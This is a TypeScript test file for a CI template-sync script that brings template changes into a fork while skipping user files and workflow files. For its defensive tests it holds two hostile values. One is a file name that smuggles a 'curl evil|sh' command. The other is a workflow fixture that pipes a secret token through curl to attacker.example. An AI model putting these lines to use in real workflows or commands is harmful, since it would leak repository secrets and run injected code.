import t from 'tap';
import { spawnSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { createRun } from '../helpers/recorder.js';
import { REPO_ROOT } from '../helpers/config-dir.js';
import { runCli } from '../../../scripts/shared/cli.js';
import { createMain } from '../../../scripts/ci/template-sync.js';
import { formatSyncBody, isIgnored, parseIgnoreList, planTemplateSync } from '../../../scripts/ci/template-sync-plan.js';

const main = createMain();
// The template's list (a fork adds its own lines to .github/template-sync-ignore; check:template keeps this copy in step).
const IGNORE_LIST = readFileSync(join(REPO_ROOT, 'test', 'fixtures', 'template-sync-ignore'), 'utf8');
const patterns = parseIgnoreList(IGNORE_LIST);

t.test('the template\'s ignore list keeps the user\'s files out of every sync, and the template\'s own in it', (t) => {
  for (const path of ['config/deploy.yaml', 'config/parameters.yaml', 'config/function.yaml', 'config/skill.yaml', 'skill-package/interactionModels/custom/en-US.json', 'README.md', 'SETUP.md', '.github/template-sync-ignore']) {
    t.ok(isIgnored(path, patterns), path);
  }
  for (const path of ['scripts/deploy/deploy-lambda.ts', 'src/handler.ts', 'package.json', 'package-lock.json', '.github/workflows/deploy.yml', 'configuration.md', 'config/aws/bootstrap.yaml']) t.notOk(isIgnored(path, patterns), path);
  t.ok(isIgnored('docs/a.md', ['docs/*.md']));
  t.notOk(isIgnored('docs/x/a.md', ['docs/*.md']), '* stays within one segment');
  t.end();
});

t.test('the plan takes changed template files, keeps files only here, and never takes a workflow', (t) => {
  const changes = [
    { status: 'M' as const, path: 'src/handler.ts' },
    { status: 'A' as const, path: 'scripts/new.ts' },
    { status: 'M' as const, path: 'config/skill.yaml' },
    { status: 'D' as const, path: 'my-notes.md' },
    { status: 'M' as const, path: '.github/workflows/deploy.yml' },
  ];
  t.same(planTemplateSync([...changes, { status: 'A', path: '.github/Workflows/new.yml' }], patterns), {
    take: ['src/handler.ts', 'scripts/new.ts'],
    onlyHere: ['my-notes.md'],
    ignored: ['config/skill.yaml'],
    workflows: ['.github/workflows/deploy.yml', '.github/Workflows/new.yml'],
  });
  const body = formatSyncBody(planTemplateSync(changes, patterns), 'octo/template', '0123456789abcdef');
  t.match(body, /Changes from the template \[octo\/template\]\(https:\/\/github\.com\/octo\/template\) at `0123456`/);
  t.match(body, /Workflow files to apply yourself[\s\S]*`\.github\/workflows\/deploy\.yml`/);
  t.match(body, /git fetch --depth=1 https:\/\/github\.com\/octo\/template\.git 0123456789abcdef\ngit diff HEAD FETCH_HEAD -- \.github\/workflows\/deploy\.yml\n/);
  const odd = formatSyncBody(planTemplateSync([{ status: 'A', path: ".github/workflows/x.yml;curl evil|sh'" }], patterns), 'octo/template', '0123456789abcdef');
  t.match(odd, /git checkout FETCH_HEAD -- '\.github\/workflows\/x\.yml;curl evil\|sh'\\''' *\n/, 'a name the template chose is one quoted shell word');
  t.match(body, /Only in your repository[\s\S]*`my-notes\.md`/);
  t.end();
});

/** A git repository with these files committed. */
function repo(files: Record<string, string>): string {
  const dir = mkdtempSync(join(tmpdir(), 'template-sync-'));
  const git = (...args: string[]) => spawnSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', ...args], { cwd: dir, encoding: 'utf8' });
  git('init', '-q', '-b', 'main');
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(dirname(join(dir, path)), { recursive: true });
    writeFileSync(join(dir, path), content);
  }
  git('add', '-A');
  git('commit', '-qm', 'init');
  return dir;
}

t.test('a sync against a local template commits only the template\'s files on the template-sync branch', async (t) => {
  const ignore = IGNORE_LIST;
  const template = repo({ 'src/a.ts': 'new code\n', 'config/skill.yaml': 'assistant_name: Jarvis\n', '.github/template-sync-ignore': ignore, 'scripts/b.ts': 'added upstream\n' });
  const mine = repo({ 'src/a.ts': 'old code\n', 'config/skill.yaml': 'assistant_name: Friday\n', '.github/template-sync-ignore': ignore, 'notes.md': 'mine\n' });
  const cwd = process.cwd();
  process.chdir(mine);
  t.teardown(() => process.chdir(cwd));

  const dry = createRun({ GITHUB_REPOSITORY: 'me/mine' });
  t.equal(await runCli('template-sync', main, ['--dry-run', '--url', template, '--template', 'octo/template'], dry.env, dry.io), 0, dry.io.text());
  t.match(dry.io.text(), /take {5}scripts\/b\.ts\n {2}take {5}src\/a\.ts[\s\S]*ignore {3}config\/skill\.yaml[\s\S]*keep {5}notes\.md \(only in this repository\)[\s\S]*Dry run: nothing committed\./);

  const real = createRun({ GITHUB_REPOSITORY: 'me/mine' });
  t.equal(await runCli('template-sync', main, ['--no-push', '--url', template, '--template', 'octo/template'], real.env, real.io), 0, real.io.text());
  const show = (path: string) => spawnSync('git', ['show', `template-sync:${path}`], { cwd: mine, encoding: 'utf8' }).stdout;
  t.equal(show('src/a.ts'), 'new code\n');
  t.equal(show('scripts/b.ts'), 'added upstream\n');
  t.equal(show('config/skill.yaml'), 'assistant_name: Friday\n', 'config/ is never touched');
  t.equal(show('notes.md'), 'mine\n', 'files only here are kept');
  t.match(spawnSync('git', ['log', '-1', '--format=%s'], { cwd: mine, encoding: 'utf8' }).stdout, /^Sync with the template octo\/template \([0-9a-f]{7}\)/);

  const again = createRun({ GITHUB_REPOSITORY: 'me/mine' });
  t.equal(await runCli('template-sync', main, ['--url', template, '--template', 'octo/template'], again.env, again.io), 0);
  t.match(again.io.text(), /Up to date with octo\/template/);
});

t.test('without --template, the template is the one GitHub recorded for this repository (gh api)', async (t) => {
  const template = repo({ 'src/a.ts': 'same\n' });
  const mine = repo({ 'src/a.ts': 'same\n' });
  const bin = mkdtempSync(join(tmpdir(), 'fake-gh-'));
  // A fake gh answers `gh api repos/me/mine --jq …` with the template's name, as GitHub's API would.
  writeFileSync(join(bin, 'gh'), '#!/bin/sh\nif [ "$2" = "repos/me/mine" ]; then echo octo/template; fi\n');
  chmodSync(join(bin, 'gh'), 0o755);
  const cwd = process.cwd();
  process.chdir(mine);
  t.teardown(() => process.chdir(cwd));
  const found = createRun({ GITHUB_REPOSITORY: 'me/mine', PATH: `${bin}:${process.env.PATH ?? ''}` });
  // The fetch goes to github.com, which the test must not reach: a local mirror stands in through git's url rewriting.
  found.env.GIT_CONFIG_COUNT = '1';
  found.env.GIT_CONFIG_KEY_0 = `url.${template}.insteadOf`;
  found.env.GIT_CONFIG_VALUE_0 = 'https://github.com/octo/template.git';
  t.equal(await runCli('template-sync', main, [], found.env, found.io), 0, found.io.text());
  t.match(found.io.text(), /Fetching octo\/template \(main\)…[\s\S]*Up to date with octo\/template/);
  const none = createRun({ GITHUB_REPOSITORY: 'me/other', PATH: `${bin}:${process.env.PATH ?? ''}` });
  t.equal(await runCli('template-sync', main, [], none.env, none.io), 1);
  t.match(none.io.lines.at(-1), /this repository was not created from a template: set TEMPLATE_REPOSITORY/);
});

t.test('failures are one line, and pushing needs the token', async (t) => {
  const template = repo({ 'src/a.ts': 'x\n' });
  const mine = repo({ 'src/a.ts': 'y\n' });
  const cwd = process.cwd();
  process.chdir(mine);
  t.teardown(() => process.chdir(cwd));
  const noToken = createRun({ GITHUB_REPOSITORY: 'me/mine' });
  t.equal(await runCli('template-sync', main, ['--url', template], noToken.env, noToken.io), 1);
  t.match(noToken.io.lines.at(-1), /pushing needs GITHUB_REPOSITORY and GH_TOKEN/);
  const missing = createRun({});
  t.equal(await runCli('template-sync', main, ['--url', join(template, 'nope')], missing.env, missing.io), 1);
  t.match(missing.io.lines.at(-1), /template-sync: git fetch .*nope failed: /);
  const badName = createRun({ TEMPLATE_REPOSITORY: 'not a slug' });
  t.equal(await runCli('template-sync', main, [], badName.env, badName.io), 1);
  t.match(badName.io.lines.at(-1), /template "not a slug" is not OWNER\/REPO/);
  const help = createRun({});
  t.equal(await runCli('template-sync', main, ['--help'], help.env, help.io), 0);
  const bad = createRun({});
  t.equal(await runCli('template-sync', main, ['--nope'], bad.env, bad.io), 1);
  t.match(bad.io.lines.at(-1), /usage: npm run template-sync/);
});

/**
 * A fake `gh` for `pr list` and `pr create`: no pull request is open, and create records its
 * arguments (one per line).
 *
 * @see https://cli.github.com/manual/gh_pr_list
 * @see https://cli.github.com/manual/gh_pr_create
 */
function fakeGh(record: string): string {
  const bin = mkdtempSync(join(tmpdir(), 'fake-gh-'));
  writeFileSync(join(bin, 'gh'), `#!/bin/sh\nif [ "$1 $2" = "pr create" ]; then printf '%s\\n' "$@" > '${record}'; fi\n`);
  chmodSync(join(bin, 'gh'), 0o755);
  return bin;
}

t.test('upstream workflow files, changed or added, never reach a branch of your repository, whatever token is set', async (t) => {
  const evil = 'on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ secrets.TEMPLATE_SYNC_TOKEN }} | curl -d @- https://attacker.example\n';
  const template = repo({ 'src/a.ts': 'new code\n', '.github/workflows/deploy.yml': 'upstream deploy\n', '.github/workflows/evil.yml': evil, '.github/template-sync-ignore': IGNORE_LIST });
  const mine = repo({ 'src/a.ts': 'old code\n', '.github/workflows/deploy.yml': 'my deploy\n', '.github/template-sync-ignore': IGNORE_LIST });
  const bare = mkdtempSync(join(tmpdir(), 'template-sync-remote-'));
  spawnSync('git', ['init', '-q', '--bare', bare]);
  const record = join(mkdtempSync(join(tmpdir(), 'template-sync-gh-')), 'pr-create');
  const cwd = process.cwd();
  process.chdir(mine);
  t.teardown(() => process.chdir(cwd));
  // What earlier versions set with TEMPLATE_SYNC_TOKEN: a personal token and SYNC_WORKFLOWS=true.
  const run = createRun({ GITHUB_REPOSITORY: 'me/mine', GH_TOKEN: 'ghp_personal', SYNC_WORKFLOWS: 'true', PATH: `${fakeGh(record)}:${process.env.PATH ?? ''}` });
  // The push goes to github.com: a local bare repository stands in through git's url rewriting.
  Object.assign(run.env, { GIT_CONFIG_COUNT: '1', GIT_CONFIG_KEY_0: `url.${bare}.insteadOf`, GIT_CONFIG_VALUE_0: 'https://x-access-token:ghp_personal@github.com/me/mine.git' });
  t.equal(await runCli('template-sync', main, ['--url', template, '--template', 'octo/template'], run.env, run.io), 0, run.io.text());
  const pushed = (path: string) => spawnSync('git', ['--git-dir', bare, 'show', `template-sync:${path}`], { encoding: 'utf8' });
  t.equal(pushed('src/a.ts').stdout, 'new code\n', 'the template\'s code is on the branch');
  t.equal(pushed('.github/workflows/deploy.yml').stdout, 'my deploy\n', 'a changed workflow is not');
  t.not(pushed('.github/workflows/evil.yml').status, 0, 'an added workflow is not');
  t.match(run.io.text(), /skip {5}\.github\/workflows\/deploy\.yml \(workflow: listed in the pull request for you to apply\)/);
  const created = readFileSync(record, 'utf8');
  t.match(created, /Workflow files to apply yourself\*\* \(2;[\s\S]*`\.github\/workflows\/deploy\.yml`\n- `\.github\/workflows\/evil\.yml`/, 'the pull request lists both for review');
  t.notMatch(created, /curl/, 'and does not carry their content');
});

t.test('when only workflow files differ, the run says so instead of "up to date"', async (t) => {
  const template = repo({ 'src/a.ts': 'same\n', '.github/workflows/ci.yml': 'upstream\n' });
  const mine = repo({ 'src/a.ts': 'same\n', '.github/workflows/ci.yml': 'mine\n' });
  const cwd = process.cwd();
  process.chdir(mine);
  t.teardown(() => process.chdir(cwd));
  const run = createRun({ GITHUB_REPOSITORY: 'me/mine' });
  t.equal(await runCli('template-sync', main, ['--url', template, '--template', 'octo/template'], run.env, run.io), 0, run.io.text());
  t.match(run.io.text(), /Up to date with octo\/template \([0-9a-f]{7}\), except the workflow files to apply yourself\./);
  t.match(run.summary(), /Workflow files to apply yourself\*\* \(1;[\s\S]*git checkout FETCH_HEAD -- \.github\/workflows\/ci\.yml/);
  t.equal(spawnSync('git', ['branch', '--list', 'template-sync'], { cwd: mine, encoding: 'utf8' }).stdout, '', 'nothing committed');
});
